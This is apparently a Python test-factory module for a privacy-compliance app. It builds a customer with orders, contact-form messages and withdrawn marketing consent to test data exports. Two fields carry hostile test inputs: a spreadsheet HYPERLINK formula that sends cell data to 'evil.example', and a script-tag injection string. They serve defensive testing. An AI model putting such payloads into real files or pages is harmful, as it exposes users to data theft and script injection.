"""Exports test factories: a customer with data in every kind of record, and the policy
without its ``rights_requests`` purpose (to show the package is then refused)."""

from __future__ import annotations

import io
import zipfile

from charter.consent import service as consent
from charter.policy.schemas import Policy
from charter.runtime import Work
from charter.vault import service as vault
from charter.vault.models import Subject

ACTOR = "staff:test"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
SCRIPT = "<script>alert('x')</script> My printer is broken"
BANK_ACCOUNT = "GB29 NWBK 6016 1331 9268 19"
WEB = {"method": "web_form", "ip": "203.0.113.77", "user_agent_family": "Firefox"}


def without_rights_purpose(policy: Policy) -> Policy:
    """The policy as it would be without a purpose for answering rights requests."""
    purposes = [p for p in policy.purposes if p.id != "rights_requests"]
    return policy.model_copy(update={"purposes": purposes})


def new_customer(work: Work) -> Subject:
    """A customer who ordered (contract), wrote through the contact form (legitimate
    interests only), and gave then withdrew email marketing consent."""
    subject = vault.create_subject(work, actor=ACTOR)
    vault.store_personal_data(
        work,
        subject,
        collection_point="orders",
        values={
            "identity.first_name": "Ada",
            "identity.last_name": "Lovelace",
            "contact.email": "ada@example.com",
            "financial.bank_account": BANK_ACCOUNT,
            "transaction.purchases": HYPERLINK,
        },
        source="website",
        actor=ACTOR,
    )
    vault.store_personal_data(
        work,
        subject,
        collection_point="contact_form",
        values={"communications.message": SCRIPT},
        purposes=["respond_to_queries"],
        source="contact form",
        actor=ACTOR,
    )
    wording = next(
        request.wording
        for request in work.policy.collection_point("contact_form").consents
        if request.channels == ["email"]
    )
    consent.give_consent(
        work,
        subject,
        purpose="marketing",
        channel="email",
        collection_point="contact_form",
        wording=wording,
        evidence=WEB,
        actor=ACTOR,
    )
    consent.withdraw_consent(
        work, subject, purpose="marketing", channel="email", actor=ACTOR, evidence={}
    )
    return subject


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
